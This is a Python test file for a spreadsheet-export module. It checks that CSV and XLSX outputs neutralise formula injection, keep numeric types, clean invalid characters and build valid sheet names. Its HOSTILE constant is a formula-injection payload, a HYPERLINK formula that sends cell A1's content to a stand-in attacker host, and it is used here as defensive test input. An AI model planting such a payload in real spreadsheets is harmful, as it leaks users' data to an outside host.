"""core.spreadsheets: what every CSV and XLSX the application writes guarantees. Files are read
back as a spreadsheet would read them: the CSV with the csv module, the XLSX with openpyxl."""
from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.spreadsheets import (
    EURO_FORMAT,
    FORMULA_STARTS,
    PERCENT_FORMAT,
    Money,
    Percent,
    csv_bytes,
    csv_text,
    cut_at_word,
    neutralise,
    sheet_title,
    xlsx_bytes,
)

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")                      # UTF-8 with BOM
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def read_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data)).worksheets[0]


@pytest.mark.parametrize("text", [HOSTILE, "+33 6", "-2+3", "@SUM(A1)", "\tx", "\rx", "\nx", "\x00x", "  =1+1"])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Rosine", "", "12", "a=b", "'=déjà cité", "é=1", " "])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


def test_a_hostile_name_comes_back_as_text_in_both_files_and_numbers_stay_numbers():
    rows = [[HOSTILE, -5, Decimal("-1.5"), 2.25, Money(Decimal("890")), None, date(2026, 3, 1), "-5"]]
    header = ["nom", "entier", "décimal", "réel", "montant", "vide", "date", "texte"]
    assert read_csv(csv_bytes(header, rows)) == [
        header, ["'" + HOSTILE, "-5", "-1.5", "2.25", "890.00", "", "2026-03-01", "'-5"]]
    sheet = read_xlsx(xlsx_bytes([("Résultats", header, rows)]))
    name, integer, dec, real, money, empty, day, text = next(sheet.iter_rows(min_row=2))
    assert (name.value, name.data_type) == ("'" + HOSTILE, "s")
    assert (integer.value, integer.data_type) == (-5, "n")
    assert (dec.value, dec.data_type) == (-1.5, "n")
    assert (real.value, real.data_type) == (2.25, "n")
    assert (money.value, money.data_type, money.number_format) == (890, "n", EURO_FORMAT)
    assert empty.value is None
    assert day.is_date and day.value.date() == date(2026, 3, 1)
    assert (text.value, text.data_type) == ("'-5", "s")
    assert [c.font.b for c in next(sheet.iter_rows(max_row=1))] == [True] * 8


def test_csv_decimal_comma_for_french_files():
    assert csv_text(None, [[Decimal("1.5"), Money(Decimal("1166.935")), 3]], decimal=",") == "1,5;1166,94;3\r\n"


def test_xlsx_cells_that_xml_cannot_hold_are_cleaned():
    sheet = read_xlsx(xlsx_bytes([("T", None, [["a\x01b\x0bc\ud800", float("nan"), "x" * 40_000]])]))
    text, nan, long = next(sheet.iter_rows())
    assert text.value == "abc\ufffd"
    assert len(long.value) == 32_767
    assert nan.value is None


def test_sheet_titles_are_valid_and_unique():
    used: set[str] = set()
    assert sheet_title("Flux [mensuels]: a/b", used) == "Flux  mensuels   a b"
    assert sheet_title("x" * 40, used) == "x" * 31
    assert sheet_title("x" * 40, used) == "x" * 27 + " (2)"
    assert sheet_title("'", used) == "Tableau"
    workbook = load_workbook(io.BytesIO(xlsx_bytes([("A", ["h"], [[1]]), ("a", ["h"], [[2]])])))
    assert workbook.sheetnames == ["A", "a (2)"]


text_cells = st.text(st.characters(codec="utf-8") | st.sampled_from(sorted(FORMULA_STARTS)), max_size=40)
cells = st.one_of(text_cells, st.integers(-10**12, 10**12), st.none(),
                  st.decimals(-10**9, 10**9, places=2, allow_nan=False), st.floats(allow_nan=True, allow_infinity=True))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(cells, min_size=1, max_size=5), min_size=1, max_size=5))
@example([[HOSTILE, "\t=1", " @x", "\x00", -3]])
def test_no_cell_of_any_table_can_start_a_formula(rows):
    width = max(len(r) for r in rows)
    rows = [r + [None] * (width - len(r)) for r in rows]
    for row, written in zip(read_csv(csv_bytes(None, rows)), rows):
        for value, original in zip(row, written):
            if isinstance(original, str):
                assert value.lstrip(" ")[:1] not in FORMULA_STARTS or not value.strip(" ")
            elif isinstance(original, (int, Decimal)):
                assert Decimal(value) == original
    sheet = read_xlsx(xlsx_bytes([("T", None, rows)]))
    for row, written in zip(sheet.iter_rows(), rows):
        for cell, value in zip(row, written):
            assert cell.data_type != "f"
            if isinstance(value, str) and cell.value is not None:
                assert cell.data_type == "s" and str(cell.value).lstrip(" ")[:1] not in FORMULA_STARTS
            elif isinstance(value, (int, Decimal)) and not isinstance(value, bool):
                assert cell.data_type == "n" and Decimal(str(cell.value)) == value


def test_numpy_numbers_are_numbers_too():
    import numpy as np

    assert read_csv(csv_bytes(None, [[np.int64(-7), np.float64(2.5)]])) == [["-7", "2.5"]]
    first, second = next(read_xlsx(xlsx_bytes([("T", None, [[np.int64(-7), np.float64(2.5)]])])).iter_rows())
    assert (first.value, first.data_type, second.value, second.data_type) == (-7, "n", 2.5, "n")


def test_long_sheet_names_are_cut_at_a_word():
    """Issue 16, defect 8: « Ce que sont devenus vos apparei » (Excel's 31 characters, cut mid-word)."""
    used: set[str] = set()
    assert sheet_title("Ce que sont devenus vos appareils", used) == "Ce que sont devenus vos"
    assert sheet_title("Ce que sont devenus vos appareils", used) == "Ce que sont devenus vos (2)"
    assert sheet_title("x" * 20 + " yyyyyyyyyy", used) == "x" * 20 + " yyyyyyyyyy"
    assert sheet_title("x" * 20 + " yyyyyyyyyy", used) == "x" * 20 + " (2)"
    assert sheet_title("Attente (entre validation et remise)", used) == "Attente (entre validation et"
    assert sheet_title("Appareils par état et catégorie", used) == "Appareils par état et catégorie"   # 31: kept
    assert cut_at_word("Un deux — trois", 9) == "Un deux"             # no dangling dash
    assert cut_at_word("abcdefghij", 4) == "abcd"                     # one word longer than the limit
    workbook = load_workbook(io.BytesIO(xlsx_bytes([("Certificats d'effacement de vos appareils", ["h"], [[1]])])))
    assert workbook.sheetnames == ["Certificats d'effacement de vos"]


def test_a_rate_is_a_percent_in_xlsx_and_per_cent_in_csv():
    rows = [[Percent(0.75), Percent(Decimal("0.6667")), Percent(float("nan"))]]
    assert read_csv(csv_bytes(None, rows, decimal=",")) == [["75", "66,67", ""]]
    three_quarters, two_thirds, nan = next(read_xlsx(xlsx_bytes([("T", None, rows)])).iter_rows())
    assert (three_quarters.value, three_quarters.data_type, three_quarters.number_format) == (0.75, "n", PERCENT_FORMAT)
    assert (float(two_thirds.value), two_thirds.number_format) == (0.6667, PERCENT_FORMAT)
    assert nan.value is None
